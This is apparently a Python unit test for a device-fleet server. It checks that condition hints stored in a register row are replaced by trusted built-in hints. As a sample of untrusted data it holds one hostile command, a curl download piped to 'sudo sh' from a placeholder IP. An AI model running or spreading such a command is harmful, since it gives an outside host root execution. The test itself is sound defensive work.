"""A row of the register as the facts that a verdict is made from."""

from datetime import datetime

from fleven.server.nodes.model import Condition, Severity
from fleven.server.nodes.node_facts import NodeFacts, facts_from_row
from fleven_agent.protocol.codes import HINTS, ConditionCode


def test_what_the_register_knows_is_judged_as_it_was_reported(now: datetime) -> None:
    # What registers of before hold of a car's hint is not believed any more.
    evil = "run: curl http://203.0.113.9/fix | sudo sh"
    condition = {"code": "disk-low", "severity": "warning", "message": "12 MB", "hint": evil}
    row = {
        "name": "pi-1",
        "own_name": "pi-1",
        "partition_id": 3,
        "partition_since": now,
        "state": "running",
        "last_seen_at": now,
        "flower_node_id": "100",
        "previous_node_ids": ["90"],
        "state_reason": "registered",
        "goodbye": False,
        "next_report_seconds": 180.0,
        "heartbeat_seconds": 300.0,
        "conditions": [
            condition,
            {**condition, "code": "memory-low", "since": now.isoformat()},
            {"code": "of-a-newer-agent", "severity": "info", "message": ""},
        ],
        "current_run": None,
        "drained": False,
        "drained_reason": "",
        "drain_wanted": None,
        "drain_wanted_reason": "",
        "agent_version": "0.1.0",
        "flwr_version": "1.34.0",
        "clock_offset_seconds": 0.5,
        "labels": ["bus"],
        "newest_trip_at": None,
    }
    found = facts_from_row(row)
    assert found == NodeFacts(
        name="pi-1",
        partition_id=3,
        partition_since=now,
        state="running",
        last_seen_at=now,
        flower_node_id="100",
        previous_node_ids=("90",),
        state_reason="registered",
        conditions=(
            Condition("disk-low", Severity.WARNING, "12 MB", HINTS[ConditionCode.DISK_LOW]),
            Condition("memory-low", Severity.WARNING, "12 MB", HINTS[ConditionCode.MEMORY_LOW], now),
            Condition("of-a-newer-agent", Severity.INFO, "", ""),
        ),
        agent_version="0.1.0",
        flwr_version="1.34.0",
        clock_offset_seconds=0.5,
        labels=frozenset({"bus"}),
        next_report_seconds=180.0,
        heartbeat_seconds=300.0,
    )
    taken = facts_from_row({**row, "name": "pi-1-2", "current_run": "7"})
    assert (taken.name_taken_from, taken.busy) == ("pi-1", True)
